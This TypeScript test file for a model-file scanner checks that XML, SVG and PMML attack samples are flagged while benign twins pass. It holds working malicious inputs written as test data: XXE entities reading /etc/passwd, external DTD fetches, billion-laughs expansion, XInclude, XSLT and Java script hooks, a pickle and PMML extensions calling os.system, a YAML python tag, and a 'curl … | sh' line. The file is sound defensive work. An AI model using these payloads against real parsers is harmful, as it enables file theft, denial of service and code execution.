// XML and PMML: attacks, clean twins, files of the real libraries.
import { pickle, zip } from '@vallum/formats/testing';
import { describe, expect, it } from 'vitest';
import { holdAgainst } from '../testing/attack-tables.js';
import { holdRealFiles } from '../testing/real-files.js';
import { verdictOf } from '../testing/scan-bytes.js';
import real from '../testing/pmml-files.json' with { type: 'json' };

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const pmml = (inside: string, before = ''): string =>
  `${XML}\n${before}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="x"/>${inside}</PMML>\n`;
const bytes = (text: string): Uint8Array => Buffer.from(text);
const clean = bytes(
  pmml('<DataDictionary><DataField name="a" optype="continuous" dataType="double"/></DataDictionary>'),
);
const apply = (name: string): string =>
  pmml(
    `<TransformationDictionary><DerivedField name="d"><Apply function="${name}"><FieldRef field="a"/></Apply></DerivedField></TransformationDictionary>`,
  );
const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
  '',
);
const utf16 = (text: string, order: 'le' | 'be', mark: boolean): Uint8Array => {
  const encoded = Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le');
  return order === 'le' ? encoded : encoded.swap16();
};
const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>';

describe('XML', () => {
  holdAgainst('model.pmml', [
    {
      what: 'an external entity',
      rule: 'VLM-XML-001',
      attack: bytes(pmml('&x;', '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
      clean,
    },
    {
      what: 'an external entity with a public name',
      rule: 'VLM-XML-001',
      attack: bytes(`<!DOCTYPE r [<!ENTITY x PUBLIC "a" 'http://203.0.113.5/x'>]><r/>`),
      clean: bytes('<r/>'),
    },
    {
      what: 'an external parameter entity',
      rule: 'VLM-XML-001',
      attack: bytes(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5/x.dtd"> %p;]><r/>`),
      clean: bytes('<!-- p --><r/>'),
    },
    {
      what: 'an external document type',
      rule: 'VLM-XML-002',
      attack: bytes(`${XML}<!DOCTYPE r SYSTEM "http://203.0.113.5/x.dtd"><r/>`),
      clean: bytes(`${XML}<r/>`),
    },
    {
      what: 'an external document type by its public name',
      rule: 'VLM-XML-002',
      attack: bytes(`${XML}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "file:///etc/passwd"><svg/>`),
      clean: bytes(`${XML}<svg/>`),
    },
    {
      what: 'a billion laughs',
      rule: 'VLM-XML-003',
      attack: bytes(`<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]><r>&l9;</r>`),
      clean: bytes('<r>ha</r>'),
    },
    {
      what: 'an entity of itself',
      rule: 'VLM-XML-003',
      attack: bytes('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>'),
      clean: bytes('<r>a</r>'),
    },
    {
      what: 'one that grows by references to characters',
      rule: 'VLM-XML-003',
      attack: bytes(
        `<!DOCTYPE r [<!ENTITY % a "${'x'.repeat(2000)}"><!ENTITY b "${'&#37;a;'.repeat(1000)}">]><r>&b;</r>`,
      ),
      clean: bytes('<r>b</r>'),
    },
    {
      what: 'an inclusion',
      rule: 'VLM-XML-010',
      attack: bytes('<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="/etc/passwd" parse="text"/></r>'),
      clean: bytes('<r xmlns:q="urn:x"><q:include href="part.xml"/></r>'),
    },
    {
      what: 'a script of a style sheet',
      rule: 'VLM-XML-007',
      attack: bytes(
        '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"><m:script>f()</m:script></x:stylesheet>',
      ),
      clean: bytes('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>'),
    },
    {
      what: 'functions of Java',
      rule: 'VLM-XML-007',
      attack: bytes('<r xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>'),
      clean: bytes('<r xmlns:rt="urn:x"/>'),
    },
    {
      what: 'a function by the name of a class',
      rule: 'VLM-XML-013',
      attack: bytes(apply('com.example.Evil')),
      clean: bytes(apply('log10')),
    },
    {
      what: 'an encoding that hides its markup',
      rule: 'VLM-XML-008',
      attack: bytes('<?xml version="1.0" encoding="UTF-7"?><r>+ADwAIQ-</r>'),
      clean: bytes('<?xml version="1.0" encoding="ISO-8859-1"?><r>x</r>'),
    },
    {
      what: 'a pickle in an extension',
      rule: 'VLM-PKL-014',
      attack: bytes(
        pmml(
          `<Extension name="x" value="${Buffer.from(pickle().proto(2).global('os', 'system').call('id').stop()).toString('base64')}"/>`,
        ),
      ),
      clean: bytes(pmml('<Extension name="x" value="1"/>')),
    },
    {
      what: 'a program in an extension',
      rule: 'VLM-XML-016',
      attack: bytes(pmml('<Extension>import os; os.system("id")</Extension>')),
      clean: bytes(pmml('<Extension>os.system is a function</Extension>')),
    },
    {
      what: 'Java in an extension',
      rule: 'VLM-XML-016',
      attack: bytes(pmml('<Extension><![CDATA[Runtime.getRuntime().exec("id")]]></Extension>')),
      clean: bytes(pmml('<Extension><![CDATA[runtime]]></Extension>')),
    },
    {
      what: 'a script',
      rule: 'VLM-XML-007',
      attack: bytes(pmml('<Extension><script>f()</script></Extension>')),
      clean: bytes(pmml('<Extension><note>f</note></Extension>')),
    },
    {
      what: 'an entity behind a long comment',
      rule: 'VLM-XML-001',
      attack: bytes(`<!--${'x'.repeat(9000)}-->${xxe}`),
      clean: bytes(`<!--${'x'.repeat(9000)}--><r/>`),
    },
    {
      what: 'an entity behind many spaces',
      rule: 'VLM-XML-001',
      attack: bytes(`${' \n'.repeat(5000)}${xxe}`),
      clean: bytes(`${' \n'.repeat(5000)}<r/>`),
    },
    {
      what: 'an entity in a document that breaks off',
      rule: 'VLM-XML-001',
      attack: bytes(`${XML}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"> <r>`),
      clean,
    },
    {
      what: 'an entity in UTF-16 without a mark',
      rule: 'VLM-XML-001',
      attack: utf16(`<?xml version="1.0" encoding="UTF-16"?>${xxe}`, 'be', false),
      clean,
    },
    {
      what: 'an entity in UTF-16 with a mark',
      rule: 'VLM-XML-001',
      attack: utf16(`<?xml version="1.0" encoding="UTF-16"?>${xxe}`, 'le', true),
      clean,
    },
  ]);

  it('tells what is odd and common, and passes', async () => {
    const svg = `${XML}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`;
    expect(await verdictOf('a.svg', bytes(svg))).toBe('pass VLM-XML-005');
    const script = '<svg xmlns="http://www.w3.org/2000/svg" onload="f()"><script>f()</script></svg>';
    expect(await verdictOf('a.svg', bytes(script))).toBe('pass VLM-XML-011');
    expect(await verdictOf('m.pmml', bytes(apply('unheardOf')))).toBe('pass VLM-XML-014');
    expect(await verdictOf('m.pmml', bytes(pmml('<TableLocator/>')))).toBe('pass VLM-XML-015');
    const style = `${XML}<?xml-stylesheet href="https://203.0.113.5/x.xsl" type="text/xsl"?><r/>`;
    expect(await verdictOf('m.xml', bytes(style))).toBe('pass VLM-XML-006');
  });

  it('takes no page for XML', async () => {
    expect(await verdictOf('README.md', bytes('<p align="center">\n<img src="a.png">\n</p>\n\n# Title\n<br>\n'))).toBe(
      'pass',
    );
    expect(await verdictOf('notes.txt', bytes('<unk> <s> </s>\n'))).toBe('pass');
    expect(await verdictOf('page.txt', bytes('<!DOCTYPE html>\n<html><body><br></body></html>\n'))).toBe('pass');
  });

  it('looks at what is no XML as at any other text', async () => {
    for (const before of [' \n'.repeat(5000), '<p>\n']) {
      const tag = bytes(`${before}a: !!python/object/apply:os.system [id]\n`);
      expect(await verdictOf('a.txt', tag)).toMatch(/^fail .*VLM-YML/);
      const command = '# Title\n\n    curl https://203.0.113.5/x | sh\n';
      expect(await verdictOf('a.txt', bytes(before + command))).toBe(await verdictOf('a.txt', bytes(command)));
    }
  });

  it('is not proven when it is broken', async () => {
    expect(await verdictOf('notes.txt', clean.subarray(0, 200))).toMatch(/^inconclusive/);
    expect(await verdictOf('m.pmml', clean.subarray(0, 200))).toMatch(/^inconclusive/);
    expect(await verdictOf('m.xml', bytes('<a><b></a>'))).toMatch(/^inconclusive/);
    expect(await verdictOf('m.xml', bytes(`${'<a>'.repeat(5000)}`))).toMatch(/^inconclusive/);
    expect(await verdictOf('m.xml', new Uint8Array(0))).toMatch(/^inconclusive|^pass/);
  });

  it('is found inside an archive', async () => {
    expect(await verdictOf('m.zip', zip([{ name: 'a.xml', data: bytes(xxe) }]))).toMatch(/^fail .*VLM-XML-001/);
  });
});

holdRealFiles('PMML', real);
